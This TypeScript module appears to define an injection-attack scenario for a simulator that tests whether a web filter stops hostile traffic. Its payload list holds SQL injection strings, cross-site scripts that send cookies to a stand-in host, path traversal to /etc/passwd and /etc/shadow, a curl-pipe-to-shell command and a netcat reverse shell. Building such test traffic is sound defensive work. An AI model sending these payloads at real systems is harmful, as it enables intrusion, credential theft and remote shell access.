/** A few addresses probe for injection: in the query, in JSON, in headers, in paths; with pauses in which they just look around. */
import type { Random } from "../random.ts";
import type { RequestSpec } from "../request.ts";
import { type Attack, addresses } from "./attack.ts";

const PAYLOADS = [
  "1' OR '1'='1' -- ",
  "-7 UNION ALL SELECT login, secret, 3 FROM members LIMIT 5#",
  "x'; DROP TABLE orders; --",
  "12 AND SLEEP(7)",
  "') OR EXISTS(SELECT 1 FROM pg_user WHERE usename LIKE 'p%') --",
  "<script>new Image().src='//collect.example.net/'+document.cookie</script>",
  '"><img src=q onerror=alert(document.domain)>',
  "<svg/onload=fetch('//collect.example.net')>",
  "../../../../../../etc/passwd",
  "..%2f..%2f..%2f..%2fetc%2fshadow",
  "lamp; cat /etc/passwd",
  "$(curl http://collect.example.net/s.sh | sh)",
  "lamp | nc 203.0.113.200 4444 -e /bin/sh",
];

const HEADERS = { "user-agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0.0.0", accept: "*/*" };

function inQuery(from: string, payload: string): RequestSpec {
  return { method: "GET", target: `/search?q=${encodeURIComponent(payload)}`, from, headers: HEADERS };
}

function inJson(from: string, payload: string): RequestSpec {
  const body = JSON.stringify({ items: [{ sku: "TR-1001", quantity: 1, note: payload }] });
  return { method: "POST", target: "/orders", from, headers: { ...HEADERS, "content-type": "application/json" }, body };
}

function inHeader(from: string, payload: string): RequestSpec {
  return {
    method: "GET",
    target: "/users/12",
    from,
    headers: { ...HEADERS, referer: `https://shop.example.com/?r=${payload}` },
  };
}

function lookAround(from: string, random: Random): RequestSpec {
  return { method: "GET", target: random.pick(["/orders", "/users/1", "/search?q=lamp"]), from, headers: HEADERS };
}

const SOURCES = [...addresses("203.0.113.", 11, 3), "2001:db8:bad::5"];

export const injection: Attack = {
  name: "injection",
  title: "Injection campaign: SQL, scripts, paths and commands in query, JSON and headers",
  sources: SOURCES,
  perSecond: 12,
  seconds: 20,
  categories: ["payload_injection"],
  stoppedAtLeast: 0.9,
  next(random) {
    const from = random.pick(SOURCES);
    const payload = random.pick(PAYLOADS);
    const where = random.next();
    if (where < 0.5) return inQuery(from, payload);
    if (where < 0.75) return inJson(from, payload);
    if (where < 0.9) return inHeader(from, payload);
    return lookAround(from, random);
  },
};
